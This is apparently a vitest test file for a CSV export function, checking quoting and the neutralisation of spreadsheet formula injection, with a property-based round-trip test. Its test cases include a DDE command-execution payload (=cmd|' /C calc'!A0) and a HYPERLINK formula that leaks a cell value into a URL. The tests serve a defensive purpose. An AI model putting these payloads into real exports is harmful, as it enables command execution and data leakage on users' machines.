import fc from 'fast-check';
import { expect, test } from 'vitest';
import { tableToCsv } from '../../../src/core/exports/csv.ts';
import { fuzz } from '../../fuzz.ts';
import { cellValue, readCsv } from './reread.ts';

test('quotes only what would break a line of the table', () => {
  expect(
    tableToCsv(
      ['a', 'b'],
      [
        { a: '一,二', b: '"三"' },
        { a: 4, b: undefined },
      ],
    ),
  ).toBe('\uFEFFa,b\r\n"一,二","""三"""\r\n4,\r\n');
});

test.each([
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+86', "'+86"],
  ['-1+2', "'-1+2"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', '"\'\r=1"'],
  ['＝1+1', "'＝1+1"],
  ["'=1", "''=1"],
  ['=HYPERLINK("https://example.org/?"&A1)', '"\'=HYPERLINK(""https://example.org/?""&A1)"'],
  ['-3', '-3'],
  ['-0.5', '-0.5'],
  ["'90年代", "'90年代"],
])('writes the text %j as a cell that no spreadsheet reckons', (text, cell) => {
  expect(tableToCsv(['a'], [{ a: text }])).toBe(`\uFEFFa\r\n${cell}\r\n`);
});

test('leaves numbers alone', () => {
  expect(tableToCsv(['a', 'b'], [{ a: -3, b: -1e-7 }])).toBe('\uFEFFa,b\r\n-3,-1e-7\r\n');
});

const column = { name: 'a', type: 'string', title: { zh: '', en: '' }, description: { zh: '', en: '' } } as const;
const strange = fc.array(
  fc.oneof(fc.constantFrom(...'\'"=+-@\t\r\n,＝0'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  {
    minLength: 1,
    maxLength: 6,
  },
);

test('gives every text back to who takes the apostrophe off', () => {
  fc.assert(
    fc.property(strange, (pieces) => {
      const text = pieces.join('');
      const { rows } = readCsv(tableToCsv(['n', 'a'], [{ n: 1, a: text }]));
      expect(cellValue(rows[0]?.[1] ?? '', column)).toBe(text);
    }),
    fuzz.parameters(2_000),
  );
});
